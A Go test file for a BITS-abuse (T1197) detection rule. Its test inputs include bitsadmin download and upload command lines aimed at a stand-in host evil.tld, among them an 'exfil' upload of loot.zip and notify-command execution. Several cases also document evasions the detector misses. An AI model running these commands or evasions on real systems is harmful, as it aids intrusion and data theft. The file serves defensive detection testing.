package detect

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

const (
	bitsadminImage  = `C:\Windows\System32\bitsadmin.exe`
	powershellImage = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	artURL          = `https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md`
)

type splCase struct {
	name string
	in   splEvent
	want map[string]string // output field -> its single value; unnamed fields are not checked
}

// cmd is an event with a single CommandLine and no Image.
func cmd(s string) splEvent { return splEvent{commandLine: one(s)} }

// image is an event with only an Image.
func image(s string) splEvent { return splEvent{image: one(s)} }

func flag(field, value string) map[string]string { return map[string]string{field: value} }

// splCases pin every indicator, each SPL defect docs/detection.md lists, the
// Atomic Red Team T1197 command lines and the rule authors' false
// positives. Each runs on NewSPL and on the regexp2 reference, so a case
// that is wrong about the SPL fails on the reference too.
var splCases = []splCase{
	// IsBitsAdmin: (?i)bitsadmin\.exe$ on Image.
	{"bitsadmin image", image(bitsadminImage), flag("IsBitsAdmin", "1")},
	{"bitsadmin image upper case", image(`C:\WINDOWS\SYSTEM32\BITSADMIN.EXE`), flag("IsBitsAdmin", "1")},
	{"bitsadmin unanchored start", image(`xbitsadmin.exe`), flag("IsBitsAdmin", "1")},
	{"dollar before final newline", image("bitsadmin.exe\n"), flag("IsBitsAdmin", "1")},
	{"dollar not before two newlines", image("bitsadmin.exe\n\n"), flag("IsBitsAdmin", "0")},
	{"dollar not before CRLF", image("bitsadmin.exe\r\n"), flag("IsBitsAdmin", "0")},
	{"bitsadmin trailing space", image("bitsadmin.exe "), flag("IsBitsAdmin", "0")},
	{"bitsadmin dot is literal", image("bitsadminXexe"), flag("IsBitsAdmin", "0")},
	{"bitsadmin backup name", image("bitsadmin.exe.bak"), flag("IsBitsAdmin", "0")},
	{"bitsadmin long s folds to s", image(`C:\x\biTſADMIN.exe`), flag("IsBitsAdmin", "1")},
	{"bitsadmin invalid UTF-8 before", image("\xffbitsadmin.exe"), flag("IsBitsAdmin", "1")},
	{"bitsadmin invalid UTF-8 inside", image("bitsadmin.ex\xe5"), flag("IsBitsAdmin", "0")},
	{"defect: renamed bitsadmin", image(`C:\Users\Public\b.exe`), flag("IsBitsAdmin", "0")},
	{"image multivalue any", splEvent{image: multi(`C:\Windows\System32\cmd.exe`, bitsadminImage)}, flag("IsBitsAdmin", "1")},
	// IsPowerShell: (?i)(powershell|pwsh)\.exe$ on Image.
	{"powershell image", image(powershellImage), flag("IsPowerShell", "1")},
	{"pwsh image", image(`C:\Program Files\PowerShell\7\PWSH.EXE`), flag("IsPowerShell", "1")},
	{"powershell long s", image(`powerſhell.exe`), flag("IsPowerShell", "1")},
	{"pwsh long s", image(`pwſh.exe`), flag("IsPowerShell", "1")},
	{"pwsh before final newline", image("pwsh.exe\n"), flag("IsPowerShell", "1")},
	{"defect: powershell_ise", image(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell_ise.exe`), flag("IsPowerShell", "0")},
	{"null image", splEvent{}, map[string]string{"Image": "", "IsBitsAdmin": "0", "IsPowerShell": "0"}},

	// HasNotify, HasTransfer, HasReset on lower(CommandLine).
	{"notify cmdline", cmd(`bitsadmin /SetNotifyCmdLine job cmd.exe NULL`), flag("HasNotify", "1")},
	{"notify flags", cmd(`bitsadmin /SETNOTIFYFLAGS job 1`), flag("HasNotify", "1")},
	{"notify prefix only", cmd(`bitsadmin /setnotify job`), flag("HasNotify", "0")},
	{"transfer", cmd(`bitsadmin /Transfer job`), flag("HasTransfer", "1")},
	{"addfile", cmd(`bitsadmin /ADDFILE job`), flag("HasTransfer", "1")},
	{"addfile dotted capital I lowers to i", cmd(`bitsadmin /ADDFİLE job`), flag("HasTransfer", "1")},
	{"start-bitstransfer", cmd(`Start-BitsTransfer -Source x`), flag("HasTransfer", "1")},
	{"new-bitstransfer", cmd(`New-BitsTransfer`), flag("HasTransfer", "1")},
	{"add-bitsfile", cmd(`Add-BitsFile -BitsJob $j`), flag("HasTransfer", "1")},
	{"lower is not case folding: long s stays", cmd(`Start-BitſTransfer`), flag("HasTransfer", "0")},
	{"defect: resume-bitstransfer", cmd(`Resume-BitsTransfer -BitsJob $j`), flag("HasTransfer", "0")},
	{"defect: quote insertion", cmd(`bitsadmin /ad"dfi"le job`), flag("HasTransfer", "0")},
	{"reset", cmd(`bitsadmin /RESET`), map[string]string{"HasReset": "1", "SuspicionScore": "0"}},
	{"reset allusers", cmd(`bitsadmin /reset /allusers`), flag("HasReset", "1")},

	// SuspiciousDest on lower(CommandLine).
	{"dest appdata", cmd(`x C:\Users\bob\AppData\Roaming\a`), flag("SuspiciousDest", "1")},
	{"dest users public", cmd(`x C:\USERS\PUBLIC\a`), flag("SuspiciousDest", "1")},
	{"dest programdata", cmd(`x C:\ProgramData\a`), flag("SuspiciousDest", "1")},
	{"dest windows temp", cmd(`x C:\Windows\Temp\a`), flag("SuspiciousDest", "1")},
	{"dest c temp", cmd(`x C:\Temp\a`), flag("SuspiciousDest", "1")},
	{"dest d temp", cmd(`x D:\Temp\a`), flag("SuspiciousDest", "0")},
	{"dest appdata without closing backslash", cmd(`x \appdata`), flag("SuspiciousDest", "0")},
	{"defect: env var temp", cmd(`x %TEMP%\a.txt`), flag("SuspiciousDest", "0")},
	{"defect: powershell env temp", cmd(`x $env:TEMP\a.txt`), flag("SuspiciousDest", "0")},
	{"defect: public env var", cmd(`x %public%\a.txt`), flag("SuspiciousDest", "0")},

	// SuspiciousExt on lower(CommandLine): \.(exe|...)(\s|$|'|") with ASCII \s.
	{"defect: the program's own name", splEvent{commandLine: one(`bitsadmin.exe /resume job`), image: one(bitsadminImage)},
		map[string]string{"SuspiciousExt": "1", "SuspicionScore": "1"}},
	{"ext at end", cmd(`x a.PS1`), flag("SuspiciousExt", "1")},
	{"ext before final newline", cmd("x a.ps1\n"), flag("SuspiciousExt", "1")},
	{"ext before quote", cmd(`x "a.dll"`), flag("SuspiciousExt", "1")},
	{"ext before apostrophe", cmd(`x 'a.vbs'`), flag("SuspiciousExt", "1")},
	{"ext before tab", cmd("x a.bat\ty"), flag("SuspiciousExt", "1")},
	{"ext before CR", cmd("x a.hta\r"), flag("SuspiciousExt", "1")},
	{"ext before VT: PCRE2 ASCII space", cmd("x a.cmd\vy"), flag("SuspiciousExt", "1")},
	{"ext before FF", cmd("x a.js\fy"), flag("SuspiciousExt", "1")},
	{"ext before NBSP: not ASCII space", cmd("x a.exe\u00a0y"), flag("SuspiciousExt", "0")},
	{"ext before NEL: not ASCII space", cmd("x a.exe\u0085y"), flag("SuspiciousExt", "0")},
	{"ext before em space", cmd("x a.exe\u2003y"), flag("SuspiciousExt", "0")},
	{"ext before comma", cmd(`x a.exe,y`), flag("SuspiciousExt", "0")},
	{"ext longer", cmd(`x a.exes`), flag("SuspiciousExt", "0")},
	{"ext js vs json", cmd(`x a.json`), flag("SuspiciousExt", "0")},
	{"ext png", cmd(`x a.png`), flag("SuspiciousExt", "0")},
	{"ext invalid UTF-8 after", cmd("x a.exe\xff"), flag("SuspiciousExt", "0")},

	// ExternalDownload: case-sensitive, lookahead bounded by the line only.
	{"external http", cmd(`bitsadmin /transfer j http://evil.tld/a.txt x`), flag("ExternalDownload", "1")},
	{"external https", cmd(`x https://evil.tld/a`), flag("ExternalDownload", "1")},
	{"external scheme inside a word", cmd(`xhttps://evil.tld/a`), flag("ExternalDownload", "1")},
	{"microsoft host", cmd(`x http://download.microsoft.com/a.cab`), flag("ExternalDownload", "0")},
	{"windowsupdate host", cmd(`x http://au.download.windowsupdate.com/a.cab`), flag("ExternalDownload", "0")},
	{"windows host", cmd(`x https://go.windows.com/a`), flag("ExternalDownload", "0")},
	{"dot-star may be empty", cmd(`x http://.microsoft.com`), flag("ExternalDownload", "0")},
	{"domain is case-sensitive", cmd(`x http://a.MICROSOFT.COM/a`), flag("ExternalDownload", "1")},
	{"defect: domain in the query", cmd(`x http://evil.tld/x?.microsoft.com`), flag("ExternalDownload", "0")},
	{"defect: domain as userinfo", cmd(`x http://download.microsoft.com@evil.tld/`), flag("ExternalDownload", "0")},
	{"defect: domain as subdomain", cmd(`x http://x.microsoft.com.evil.tld/`), flag("ExternalDownload", "0")},
	{"defect: windows.com later on the line", cmd(`x http://evil.tld/a C:\x\go.windows.com`), flag("ExternalDownload", "0")},
	{"defect: upper-case scheme", cmd(`x HTTP://evil.tld/a`), flag("ExternalDownload", "0")},
	{"defect: ftp", cmd(`x ftp://evil.tld/a`), flag("ExternalDownload", "0")},
	{"defect: UNC source", cmd(`bitsadmin /transfer j \\evil\share\a.exe C:\a.exe`), flag("ExternalDownload", "0")},
	{"defect: https single slash", cmd(`x https:/evil.tld/a`), flag("ExternalDownload", "0")},
	{"defect: quoted scheme", cmd(`x h"tt"ps://evil.tld/a`), flag("ExternalDownload", "0")},
	{"domain on the next line does not suppress", cmd("x http://evil.tld/a\ny.microsoft.com"), flag("ExternalDownload", "1")},
	{"dot matches CR", cmd("x http://evil.tld/a\r.microsoft.com"), flag("ExternalDownload", "0")},
	{"last URL on the line is external", cmd(`x http://a.microsoft.com http://evil.tld/`), flag("ExternalDownload", "1")},
	{"last URL on the line is microsoft", cmd(`x http://evil.tld/ http://a.microsoft.com`), flag("ExternalDownload", "0")},
	{"second line external", cmd("x http://evil.tld/ http://a.microsoft.com\nhttps://evil2.tld/"), flag("ExternalDownload", "1")},
	{"nested scheme", cmd(`x http://http://evil.tld`), flag("ExternalDownload", "1")},
	{"https then http inside", cmd(`x https://http://a.windows.com`), flag("ExternalDownload", "0")},
	{"ftp after http does not hide it", cmd(`x http://evil.tld ftp://a`), flag("ExternalDownload", "1")},

	// coalesce and multivalue.
	{"process command line when command line is null",
		splEvent{processCommandLine: one(`bitsadmin /reset`)}, map[string]string{"CommandLine": `bitsadmin /reset`, "HasReset": "1"}},
	{"empty command line is null",
		splEvent{commandLine: one(""), processCommandLine: one(`bitsadmin /reset`)}, map[string]string{"CommandLine": `bitsadmin /reset`, "HasReset": "1"}},
	{"command line wins over process command line",
		splEvent{commandLine: one(`a`), processCommandLine: one(`bitsadmin /reset`)}, map[string]string{"CommandLine": `a`, "HasReset": "0"}},
	{"both null gives the empty value", splEvent{image: one(bitsadminImage)},
		map[string]string{"CommandLine": "", "Image": bitsadminImage, "SuspicionScore": "0"}},
	{"multivalue command line any value", splEvent{commandLine: multi(`a`, `/reset`)}, flag("HasReset", "1")},
	{"multivalue values are not joined", splEvent{commandLine: multi(`/setnotify`, `flags`)}, flag("HasNotify", "0")},
	{"multivalue lookahead stays in its value", splEvent{commandLine: multi(`http://evil.tld`, `a.microsoft.com`)}, flag("ExternalDownload", "1")},

	// Atomic Red Team T1197.
	{"ART 1 bitsadmin transfer", splEvent{
		commandLine: one(`bitsadmin.exe /transfer /Download /priority Foreground ` + artURL + ` %temp%\bitsadmin1_flag.ps1`),
		image:       one(bitsadminImage)},
		map[string]string{"IsBitsAdmin": "1", "HasTransfer": "1", "SuspiciousExt": "1", "ExternalDownload": "1", "SuspiciousDest": "0", "SuspicionScore": "3"}},
	{"ART 2 Start-BitsTransfer", splEvent{
		commandLine: one(`"powershell.exe" & {Start-BitsTransfer -Priority foreground -Source ` + artURL + ` -Destination $env:TEMP\bitsadmin2_flag.ps1}`),
		image:       one(powershellImage)},
		// `.ps1}` is no suspicious extension, but the quoted program name is.
		map[string]string{"IsPowerShell": "1", "HasTransfer": "1", "SuspiciousExt": "1", "ExternalDownload": "1", "SuspicionScore": "3"}},
	{"ART 2 without the program name", splEvent{
		commandLine: one(`Start-BitsTransfer -Priority foreground -Source ` + artURL + ` -Destination $env:TEMP\bitsadmin2_flag.ps1}`),
		image:       one(powershellImage)},
		map[string]string{"IsPowerShell": "1", "HasTransfer": "1", "SuspiciousExt": "0", "ExternalDownload": "1", "SuspicionScore": "2"}},
	{"ART 3 create", splEvent{commandLine: one(`bitsadmin.exe /create AtomicBITS`), image: one(bitsadminImage)},
		map[string]string{"SuspiciousExt": "1", "SuspicionScore": "1"}},
	{"ART 3 addfile", splEvent{
		commandLine: one(`bitsadmin.exe /addfile AtomicBITS ` + artURL + ` %temp%\bitsadmin3_flag.ps1`), image: one(bitsadminImage)},
		map[string]string{"HasTransfer": "1", "SuspiciousExt": "1", "ExternalDownload": "1", "SuspicionScore": "3"}},
	{"ART 3 setnotifycmdline", splEvent{
		commandLine: one(`bitsadmin.exe /setnotifycmdline AtomicBITS C:\Windows\system32\notepad.exe NULL`), image: one(bitsadminImage)},
		map[string]string{"HasNotify": "1", "SuspiciousExt": "1", "SuspicionScore": "2"}},
	{"ART notify cmd calc", splEvent{
		commandLine: one(`bitsadmin /SetNotifyCmdLine job "cmd.exe" "/c calc.exe"`), image: one(bitsadminImage)},
		map[string]string{"HasNotify": "1", "SuspiciousExt": "1", "SuspicionScore": "2"}},
	{"ART 3 resume", splEvent{commandLine: one(`bitsadmin.exe /resume AtomicBITS`), image: one(bitsadminImage)},
		map[string]string{"SuspiciousExt": "1", "SuspicionScore": "1"}},
	{"ART 3 complete", splEvent{commandLine: one(`bitsadmin.exe /complete AtomicBITS`), image: one(bitsadminImage)},
		map[string]string{"SuspiciousExt": "1", "SuspicionScore": "1"}},
	{"ART upload exfiltration", splEvent{
		commandLine: one(`bitsadmin /transfer exfil /upload http://evil.tld/drop C:\Users\Public\loot.zip`), image: one(bitsadminImage)},
		map[string]string{"HasTransfer": "1", "SuspiciousDest": "1", "ExternalDownload": "1", "SuspiciousExt": "0", "SuspicionScore": "3"}},
	{"ART desktopimgdownldr evades", splEvent{
		commandLine: one(`desktopimgdownldr.exe /lockscreenurl:` + artURL + ` /eventName:desktopimgdownldr`),
		image:       one(`C:\Windows\System32\desktopimgdownldr.exe`)},
		map[string]string{"IsBitsAdmin": "0", "IsPowerShell": "0", "ExternalDownload": "1"}},

	// False positives named by the rule's authors.
	{"FP windows update", splEvent{
		commandLine: one(`powershell.exe Start-BitsTransfer -Source http://au.download.windowsupdate.com/d/kb.cab -Destination C:\Windows\SoftwareDistribution\kb.cab`),
		image:       one(powershellImage)},
		map[string]string{"HasTransfer": "1", "ExternalDownload": "0", "SuspiciousExt": "1", "SuspicionScore": "2"}},
	{"FP delivery optimization", splEvent{
		commandLine: one(`bitsadmin /transfer wu http://x.delivery.mp.microsoft.com/f/a.cab C:\Windows\ccmcache\a.cab`), image: one(bitsadminImage)},
		map[string]string{"HasTransfer": "1", "ExternalDownload": "0", "SuspiciousDest": "0", "SuspicionScore": "1"}},
	{"FP IT backup script", splEvent{
		commandLine: one(`Start-BitsTransfer -Source \\fileserver\backup\db.bak -Destination D:\backup\`), image: one(powershellImage)},
		map[string]string{"HasTransfer": "1", "ExternalDownload": "0", "SuspicionScore": "1"}},
}

func TestSPLCases(t *testing.T) {
	detectors := map[string]Detector{"NewSPL": NewSPL(), "reference": mustReference(t)}
	for _, c := range splCases {
		for name, d := range detectors {
			got := scoreEvent(d, c.in)
			for field, want := range c.want {
				if diff := cmp.Diff([]string{want}, got[field]); diff != "" {
					t.Errorf("%s: %s: %s (-want +got):\n%s", c.name, name, field, diff)
				}
			}
		}
	}
}

func TestSPLInputsOutputs(t *testing.T) {
	wantInputs := []string{"CommandLine", "ProcessCommandLine", "Image"}
	wantOutputs := []string{"CommandLine", "Image", "IsBitsAdmin", "IsPowerShell", "HasNotify", "HasTransfer",
		"HasReset", "SuspiciousDest", "SuspiciousExt", "ExternalDownload", "SuspicionScore"}
	for name, d := range map[string]Detector{"NewSPL": NewSPL(), "reference": mustReference(t)} {
		if diff := cmp.Diff(wantInputs, d.Inputs()); diff != "" {
			t.Errorf("%s Inputs (-want +got):\n%s", name, diff)
		}
		if diff := cmp.Diff(wantOutputs, d.Outputs()); diff != "" {
			t.Errorf("%s Outputs (-want +got):\n%s", name, diff)
		}
	}
}

// TestSPLOutputsPassThrough pins that CommandLine and Image are the coalesced
// input values themselves, multivalue kept.
func TestSPLOutputsPassThrough(t *testing.T) {
	in := splEvent{commandLine: multi("a", "b"), image: multi("x.exe", "pwsh.exe")}
	got := scoreEvent(NewSPL(), in)
	if diff := cmp.Diff([]string{"a", "b"}, got["CommandLine"]); diff != "" {
		t.Errorf("CommandLine (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"x.exe", "pwsh.exe"}, got["Image"]); diff != "" {
		t.Errorf("Image (-want +got):\n%s", diff)
	}
}

// TestSPLScoreSumsFiveFlags drives every scored flag at once.
func TestSPLScoreSumsFiveFlags(t *testing.T) {
	line := `bitsadmin /transfer j /SetNotifyFlags http://evil.tld/a C:\Users\Public\a.exe /reset`
	got := scoreEvent(NewSPL(), cmd(line))
	want := map[string]string{"HasNotify": "1", "HasTransfer": "1", "HasReset": "1", "SuspiciousDest": "1",
		"SuspiciousExt": "1", "ExternalDownload": "1", "SuspicionScore": "5"}
	for field, w := range want {
		if diff := cmp.Diff([]string{w}, got[field]); diff != "" {
			t.Errorf("%s (-want +got):\n%s", field, diff)
		}
	}
}

// TestSPLScoreDoesNotAllocate pins the steady-state allocation budget of
// the hot path: zero, for ASCII and non-ASCII command lines alike.
func TestSPLScoreDoesNotAllocate(t *testing.T) {
	d := NewSPL()
	for _, e := range []splEvent{
		{commandLine: one(`bitsadmin.exe /transfer j http://evil.tld/a.exe C:\Users\Public\a.exe`), image: one(bitsadminImage)},
		{commandLine: one(`bitsadmin.exe /transfer j http://évil.tld/ä.exe C:\Users\Public\İ.exe`), image: one(`C:\ſ\bitsadmin.exe`)},
		{processCommandLine: multi(`a /reset`, `b`), image: nil},
	} {
		in := []Values{e.commandLine, e.processCommandLine, e.image}
		out := make([]Values, len(d.Outputs()))
		d.Score(in, out) // grow the scratch buffer once
		if allocs := testing.AllocsPerRun(100, func() { d.Score(in, out) }); allocs != 0 {
			t.Errorf("%v: %v allocations per Score, want 0", e, allocs)
		}
	}
}

// TestSPLOutputValuesAreCapped pins that appending to one output value
// cannot overwrite another output sharing the digit buffer.
func TestSPLOutputValuesAreCapped(t *testing.T) {
	d := NewSPL()
	out := make([]Values, len(d.Outputs()))
	d.Score([]Values{one(`/reset`), nil, nil}, out)
	_ = append(out[outFirstFlag+4][0], 'x') // HasReset "1"
	d.Score([]Values{one(`/transfer`), nil, nil}, out)
	if got := string(out[outSuspicionScore][0]); got != "1" {
		t.Errorf("SuspicionScore = %q after an append to another output, want \"1\"", got)
	}
	if got := string(out[outFirstFlag+4][0]); got != "0" {
		t.Errorf("HasReset = %q, want \"0\"", got)
	}
}

// Callers reuse out between events without clearing it (the Detector
// contract), so Score must set every output, null ones included.
func TestScoreSetsEveryOutput(t *testing.T) {
	events := append([]splEvent{{}, cmd("")}, typicalEvents...)
	for name, d := range map[string]Detector{"NewSPL": NewSPL(), "reference": mustReference(t)} {
		for _, e := range events {
			out := make([]Values, len(d.Outputs()))
			stale := []byte("stale")
			for j := range out {
				out[j] = Values{stale}
			}
			d.Score([]Values{e.commandLine, e.processCommandLine, e.image}, out)
			for j, v := range out {
				if len(v) == 1 && len(v[0]) > 0 && &v[0][0] == &stale[0] {
					t.Errorf("%s, %s: %s left unset", name, e, d.Outputs()[j])
				}
			}
		}
	}
}
